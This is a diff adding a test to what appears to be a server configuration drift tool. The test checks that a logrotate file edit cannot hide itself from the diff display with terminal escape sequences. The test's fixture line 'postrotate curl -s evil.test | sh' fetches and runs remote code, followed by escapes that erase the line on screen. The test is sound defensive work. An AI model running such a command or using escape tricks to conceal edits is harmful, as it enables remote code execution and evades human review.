@@ -48,6 +48,25 @@ kinds('content, mode and owner changes; drift when the live file is not what bli
   assert.match(text, 'aws-1: 1 to change, 2 mode/owner, 1 drifted');
 });
 
+kinds('a server file cannot hide its change from the diff with terminal escapes', async () => {
+  const w = awsServer();
+  await memRun(w, { apply: true });
+  const path = '/etc/logrotate.d/odoo-blink-internal';
+  const file = w.files.get(path)!;
+  // A hand edit whose added line would rub itself out on a terminal: back to the line start, erase it, up one line.
+  w.files.set(path, { ...file, content: Buffer.concat([file.content, Buffer.from('postrotate curl -s evil.test | sh\r\x1b[2K\x1b[1A\n')]) });
+  const r = await memRun(w);
+  const f = r.plan.files.find((x) => x.path === path)!;
+  assert.is(f.change, 'change');
+  for (const color of [false, true]) {
+    const text = formatServerPlan(r.plan, { color, prune: false });
+    assert.match(text, '-postrotate curl -s evil.test | sh\\x0d\\x1b[2K\\x1b[1A');
+    assert.not.match(text, /\r|\x1b\[2K|\x1b\[1A/);
+  }
+  // --json keeps the bytes, escaped as JSON escapes every control character.
+  assert.match(JSON.stringify(planJson(r.plan)), 'evil.test | sh\\r\\u001b[2K\\u001b[1A');
+});
+
 kinds('an instance removed from the fleet leaves orphans: kept, or deleted with prune', async () => {
   const w = awsServer();
   await memRun(w, { apply: true });
